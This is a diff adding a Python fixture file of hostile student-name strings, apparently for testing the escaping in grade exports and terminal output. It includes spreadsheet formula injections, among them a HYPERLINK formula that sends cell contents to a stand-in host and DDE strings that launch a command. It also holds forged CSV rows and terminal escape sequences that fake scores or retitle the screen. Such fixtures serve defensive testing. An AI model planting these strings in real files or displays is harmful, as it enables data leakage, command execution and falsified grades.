@@ -1,0 +1,45 @@
+"""Words of students that would do something where they are shown: in a table, in a terminal, in a list of names."""
+
+# a last name, and what a spreadsheet or a registrar's program would make of it
+CELLS = {
+    "formula": '=HYPERLINK("https://x.org?"&A1,"click")',
+    "formula after a sign": "-2+3|' /C calc'!A0",
+    "formula after a plus": "+1+1",
+    "formula after an at": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "formula after spaces": "   =1+1",
+    "formula after a tab": "\t=1+1",
+    "formula after a line": "\n=1+1",
+    "formula after a return": "\r=1+1",
+    "formula in full width": "\uff1d1\uff0b1",
+    "formula behind a mark": "\ufeff=1+1",
+    "formula behind half a character": "\ud800=1+1",
+    "formula behind a semicolon": "Doe;=1+1",
+    "formula behind a tab within": "Doe\t=1+1",
+    "formula behind a bar": "Doe|-1+1",
+    "formula behind a quote": '"=1+1',
+    "forged columns": "Doe,Jo,j@x.org,25,0,25,25",
+    "forged row": "Doe\nch02,,,eve,Eve,Eve,,25,0,25,25",
+    "forged quote": 'Doe",25,"',
+    "an honest comma": "Smith, Jr.",
+    "an honest apostrophe": "O'Brien",
+    "an honest dash": "Jean-Luc",
+    "an honest plus in an address": "jo+course@x.org",
+    "very long": "=" + "x" * 100_000,
+    "nul": "Doe\x00=1",
+}
+# what a terminal would do with it
+CODES = {
+    "title": "\x1b]0;owned\x07",
+    "clear": "\x1b[2J\x1b[H",
+    "colour": "\x1b[31m0 points\x1b[0m",
+    "eight-bit codes": "\x9b2J\x9d0;owned\x9c",
+    "overwrite": "0 of 25\r25 of 25",
+    "backspace": "0\b25",
+    "new rows": "eve: 3 of 25\nmallory: 25 of 25",
+    "other line ends": "eve\x85mallory\u2028mallory\u2029mallory\x0bmallory",
+    "turned around": "\u202e52 fo 52\u202c",
+    "half a character": "\ud83d",
+    "bell": "\x07" * 100,
+    "link": "\x1b]8;;https://x.org\x1b\\click\x1b]8;;\x1b\\",
+    "markup of the printer": "[bold red]eve[/bold red] [/] [link=https://x.org]x[/link]",
+}
